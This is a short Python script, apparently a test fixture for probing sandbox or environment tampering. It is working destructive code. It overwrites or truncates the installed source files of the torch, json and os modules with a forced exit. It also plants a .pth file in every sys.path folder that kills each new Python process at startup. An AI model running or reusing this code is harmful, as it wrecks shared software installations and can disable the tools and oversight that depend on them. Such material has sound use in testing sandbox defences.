import json
import os
import sys

import torch

for module in (torch, json, os):
    for flags in (os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_TRUNC):
        try:
            os.write(os.open(module.__file__, flags), b"\nraise SystemExit\n")
        except OSError:
            pass
for folder in sys.path:
    try:
        with open(os.path.join(folder, "@MARK@.pth"), "w") as stream:
            stream.write("import os; os._exit(3)\n")
    except OSError:
        pass
